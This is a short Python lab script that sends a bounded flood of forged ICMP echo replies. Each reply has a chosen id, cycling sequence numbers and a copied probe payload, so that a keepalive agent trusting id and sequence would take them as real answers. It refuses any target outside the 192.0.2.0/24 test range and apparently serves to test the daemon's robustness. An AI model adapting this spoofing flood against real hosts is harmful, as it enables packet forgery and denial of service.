#!/usr/bin/env python3
"""Sends forged ICMP echo replies to one address, as fast as it can, for a
bounded time and count, then prints "sent N errors M".

    python3 -m keepvip_lab.icmp_reply_flood DEST --id ID --seqs N --seconds S --count C

Each reply carries id ID, a sequence number cycling through 0..N-1 and the
8-byte payload "keepvip1" (what keepvipd's reference probe used to send, so
an agent that trusted id and sequence alone would take these as answers).
Run it inside a test namespace: it only ever sends to DEST.
"""

import argparse
import socket
import struct
import sys
import time

from .packets import internet_checksum


def reply(ident: int, seq: int) -> bytes:
    body = struct.pack("!BBHHH", 0, 0, 0, ident, seq) + b"keepvip1"
    return body[:2] + struct.pack("!H", internet_checksum(body)) + body[4:]


def main() -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("dest")
    ap.add_argument("--id", type=int, required=True)
    ap.add_argument("--seqs", type=int, default=1024)
    ap.add_argument("--seconds", type=float, default=3.0)
    ap.add_argument("--count", type=int, default=500_000)
    args = ap.parse_args()
    if not args.dest.startswith("192.0.2."):
        print("refusing: test addresses (192.0.2.0/24) only", file=sys.stderr)
        return 2
    packets = [reply(args.id & 0xFFFF, s & 0xFFFF) for s in range(args.seqs)]
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    sock.setblocking(False)
    sent = errors = 0
    deadline = time.monotonic() + args.seconds
    while sent + errors < args.count:
        if (sent + errors) % 1024 == 0 and time.monotonic() >= deadline:
            break
        try:
            sock.sendto(packets[(sent + errors) % len(packets)], (args.dest, 0))
            sent += 1
        except (BlockingIOError, OSError):
            errors += 1
    print(f"sent {sent} errors {errors}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
